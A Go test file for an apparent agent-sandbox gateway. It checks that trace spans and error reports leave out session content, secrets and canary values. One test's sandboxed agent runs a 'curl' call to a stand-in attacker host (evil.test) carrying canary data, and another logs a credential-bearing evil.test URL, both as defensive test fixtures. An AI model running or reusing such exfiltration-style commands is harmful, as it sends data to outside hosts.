package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/netip"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	trace "go.opentelemetry.io/proto/otlp/trace/v1"
	"google.golang.org/protobuf/proto"

	"gatehouse/internal/outside"
	"gatehouse/internal/problem"
	"gatehouse/internal/secret"
	"gatehouse/receipts"
)

const otlpHost = "otlp.good.test"

// collector is a counting OTLP endpoint.
type collector struct {
	mu     sync.Mutex
	spans  []*trace.Span
	bodies []byte
	keys   []string
	status int
}

func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	c.mu.Lock()
	defer c.mu.Unlock()
	c.bodies = append(c.bodies, b...)
	c.keys = append(c.keys, r.URL.Path+" "+r.Header.Get("Authorization"))
	var d trace.TracesData
	if proto.Unmarshal(b, &d) == nil {
		for _, r := range d.ResourceSpans {
			for _, s := range r.ScopeSpans {
				c.spans = append(c.spans, s.Spans...)
			}
		}
	}
	w.WriteHeader(c.status)
}

func (c *collector) named(name string) *trace.Span {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, s := range c.spans {
		if s.Name == name {
			return s
		}
	}
	return nil
}

// TestOwnTraces: a node tells its collector of an event's way through it and of
// the session's actions, from outside, without content. A collector that takes
// nothing holds nothing up, and is counted.
func TestOwnTraces(t *testing.T) {
	if testing.Short() {
		t.Skip("short: starts a node and a sandbox")
	}
	for name, status := range map[string]int{"taken": 200, "refused": 503} {
		t.Run(name, func(t *testing.T) {
			world, err := outside.New()
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(world.Close)
			c := &collector{status: status}
			if _, err := world.HTTPS(otlpHost, netip.MustParseAddr("93.184.216.34"), c); err != nil {
				t.Fatal(err)
			}
			n := newLiveNode(t, strings.Replace(worldConfig(world), "dev: {", "dev: {ca: ca.pem, ", 1)+fmt.Sprintf(`connections:
  - {name: traces-main, kind: telemetry, provider: otlp, host: %s, scheme: bearer, credential: "${file:otlp.key}"}
observability: {traces: traces-main}
`, otlpHost), `apiVersion: gatehouse/v1
kind: Bundle
name: traced
mode: hard
accepts: outsider
match: [{source: github, kinds: [workflow_run.completed], where: {conclusion: failure}}]
session:
  agent: {command: {argv: [/bin/sh, -c, "echo CANARY-in-the-transcript; curl -s https://evil.test/CANARY-path?q=CANARY-query; true"]}}
  task: go
  timeout: 2m
egress: [{host: public.good.test}]
`)
			n.write("ca.pem", string(world.CA()))
			n.write("otlp.key", traceKey+"\n")
			n.args = []string{"--dev"}
			n.start()
			ids := n.deliver(failure(1))
			n.settled(ids...)
			n.until("reported", func() bool {
				return strings.Contains(string(get(t, "http://"+n.private+"/metrics")), `gatehouse_own_reports_total{code="`+map[int]string{200: "", 503: "telemetry_refused"}[status]+`",what="traces"}`)
			})
			if status != 200 {
				return // the session has ended all the same
			}
			n.until("told of the session", func() bool { return c.named("session traced") != nil })
			for _, want := range []string{"ingest github/main", "gatekeeper", "session traced", "verdict deny"} {
				s := c.named(want)
				if s == nil || !bytes.Equal(s.TraceId, c.named("session traced").TraceId) {
					t.Errorf("%s: %v", want, s)
				}
			}
			c.mu.Lock()
			defer c.mu.Unlock()
			if bytes.Contains(c.bodies, []byte("CANARY")) {
				t.Error("content is in a trace")
			}
			for _, k := range c.keys {
				if k != "/v1/traces Bearer "+traceKey {
					t.Errorf("a report under %q", k)
				}
			}
		})
	}
}

// TestRunTraces: a session without a server is told of before the verb ends.
func TestRunTraces(t *testing.T) {
	if testing.Short() {
		t.Skip("short: starts a sandbox")
	}
	world, err := outside.New()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(world.Close)
	c := &collector{status: 200}
	if _, err := world.HTTPS(otlpHost, netip.MustParseAddr("93.184.216.34"), c); err != nil {
		t.Fatal(err)
	}
	dir := nodeDir(t)
	write(t, filepath.Join(dir, "ca.pem"), string(world.CA()))
	write(t, filepath.Join(dir, "otlp.key"), traceKey+"\n")
	write(t, filepath.Join(dir, "gatehouse.yaml"), strings.Replace(worldConfig(world), "dev: {", "dev: {ca: ca.pem, ", 1)+fmt.Sprintf(`sandbox: {unlimited: accepted}
connections:
  - {name: traces-main, kind: telemetry, provider: otlp, host: %s, scheme: bearer, credential: "${file:otlp.key}"}
observability: {traces: traces-main}
`, otlpHost))
	write(t, filepath.Join(dir, "bundle.yaml"), `apiVersion: gatehouse/v1
kind: Bundle
name: traced
accepts: member
session: {agent: {command: {argv: ["true"]}}, task: go, timeout: 1m}
`)
	out, res := runInside(t, dir, "hard", "true")
	if c.named("session traced") == nil || res.Exit != receipts.ExitComplete {
		t.Errorf("%s\n%s", res.Verdict(), out)
	}
}

// sentryExit is a counting Sentry.
type sentryExit struct {
	mu     sync.Mutex
	bodies []string
}

func (s *sentryExit) RoundTrip(r *http.Request) (*http.Response, error) {
	b, err := io.ReadAll(r.Body)
	if err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.bodies = append(s.bodies, string(b))
	return &http.Response{StatusCode: 200, Header: http.Header{}, Body: io.NopCloser(strings.NewReader("{}")), Request: r}, nil
}

// TestProblemsScrubbed: what a report of the node's own problems holds is the
// log line's fixed words, a code and ids, whatever stood in the line.
func TestProblemsScrubbed(t *testing.T) {
	const canary = "CANARY0123456789abcdef"
	t.Setenv("GATEHOUSE_TEST_SECRET", canary+"-env")
	var logged bytes.Buffer
	h := newProblemLog(slog.NewTextHandler(&logged, nil))
	log := slog.New(h)
	log.Error("before anybody listens")
	exit := &sentryExit{}
	p, err := problemsTo("node-1", "https://"+canary+"key@errors.good.test/42", exit)
	if err != nil {
		t.Fatal(err)
	}
	h.to.Store(p)

	log = log.With(slog.String("bundle", "fix-ci"), slog.String("token", canary+"-with"))
	log.Info("nothing to tell", slog.String("session", canary))
	coded := problem.Wrap(errors.New("open /home/somebody/"+canary), problem.JournalFailed, "the journal "+canary, canary)
	log.Error("receipt not durable", slog.String("session", "01JB0000000000000000000000"), slog.Any("err", coded),
		slog.String("url", "https://x:"+canary+"@evil.test/?k="+canary), slog.Any("secret", secret.FromString(canary)), slog.String("connection", "text of a stranger "+canary))
	log.Error("receipt not durable", slog.Any("err", coded)) // the same again
	log.Error("couldn't open /home/somebody/"+canary, slog.Any("err", errors.New(canary)))
	log.WithGroup("request").Error("an answer came late", slog.String("name", "main"), slog.Group("header", slog.String("session", canary)))
	p.flush()

	exit.mu.Lock()
	defer exit.mu.Unlock()
	all := strings.Join(exit.bodies, "\n")
	if len(exit.bodies) != 3 {
		t.Errorf("%d reports:\n%s", len(exit.bodies), all)
	}
	for _, want := range []string{"receipt not durable", `"code":"journal_failed"`, `"session":"01JB0000000000000000000000"`, `"bundle":"fix-ci"`, noWords, "an answer came late", `"server_name":"node-1"`} {
		if !strings.Contains(all, want) {
			t.Errorf("no report holds %s:\n%s", want, all)
		}
	}
	// The envelope's head names the DSN; nothing else may hold the canary.
	for _, body := range exit.bodies {
		_, event, _ := strings.Cut(body, "\n")
		for _, never := range []string{"CANARY", "/home/", "evil.test", "stranger", "GATEHOUSE_TEST", `"modules"`, `"contexts"`, `"request"`, `"user"`, `"breadcrumbs"`, "before anybody"} {
			if strings.Contains(event, never) {
				t.Errorf("a report holds %s:\n%s", never, body)
			}
		}
	}
	for _, want := range []string{"before anybody listens", "nothing to tell", "receipt not durable"} {
		if !strings.Contains(logged.String(), want) {
			t.Errorf("the log lacks %q", want)
		}
	}
}
